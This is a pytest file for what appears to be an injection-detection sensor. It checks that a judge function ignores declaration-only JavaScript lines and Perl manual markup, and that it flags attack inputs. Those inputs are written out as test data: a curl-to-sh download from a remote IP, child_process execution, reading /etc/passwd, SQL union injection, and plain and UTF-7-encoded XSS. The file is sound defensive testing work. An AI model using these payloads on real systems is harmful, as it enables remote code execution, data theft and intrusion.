"""Lines that declare and do nothing are left out of what is judged; what does something stays."""

from __future__ import annotations

import pytest

from sensor.detection.injection.finding import WEAK
from sensor.detection.injection.judge import judge
from sensor.detection.injection.listing import without_declarations

DECLARATIONS = [
    "#!/usr/bin/env node\n",
    'const { basename } = require("path");',
    "import { readFile } from 'node:fs/promises'",
    "module.exports = UnusedRuleWarning;",
    "module.exports = {\n\tparse,\n\tprint\n};",
    '/** @typedef {import("../Compilation")} Compilation */',
    "/**\n * @import { Hash } from \"../../../declarations/Options\"\n */",
]


@pytest.mark.parametrize("text", DECLARATIONS)
def test_declares_only(text: str) -> None:
    assert not without_declarations(text).strip()
    assert not judge(text)


@pytest.mark.parametrize(
    "text",
    [
        "const cp = require('child_process')",
        "require('child_process').exec('id')",
        "const fs = require('fs'); fs.readFileSync('/etc/passwd')",
        "1/**/union/**/select/**/password/**/from/**/users",
        "#!/bin/sh\ncurl http://192.0.2.7/a|sh",
        "/** */ module.exports = () => process.mainModule.require('child_process')",
        "a B<script>alert(1)</script>",
        "X<svg onload=alert(1)>",
    ],
)
def test_what_runs_is_found(text: str) -> None:
    assert max(finding.points for finding in judge(text)) >= WEAK


@pytest.mark.parametrize(
    "text", ["=item X<script kiddie>", "the C<use if> pragma", "C<?PATTERN?> is I<matched> once", "see L<https://perl.example>"]
)
def test_codes_of_perls_manuals(text: str) -> None:
    assert not judge(text)


@pytest.mark.parametrize(
    "text",
    [
        '"/etc/group" のファイル内容は次です。',
        "邮件是由 /usr/sbin/sendmail 命令处理。",
        '"dpkg -L パッケージ名 |grep \'/man/man.*/\'" はコマンドのマニュアルページを一覧します',
    ],
)
def test_prose_without_blanks(text: str) -> None:
    assert max((finding.points for finding in judge(text)), default=0) < WEAK


@pytest.mark.parametrize(
    "text", ["-+added+as+a+dependency+AVM-+of+it%0A`pip+install`", "one+of+the+ata-STM3500+drives+is+gone%0Aand+`df`"]
)
def test_a_blank_of_a_form_begins_no_utf7(text: str) -> None:
    assert max((finding.points for finding in judge(text, form=True)), default=0) < WEAK


def test_utf7_that_hides_markup() -> None:
    assert any(finding.kind == "xss" for finding in judge("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"))
    assert any(finding.kind == "xss" for finding in judge("+ADw-script+AD4-alert(1)", form=True))
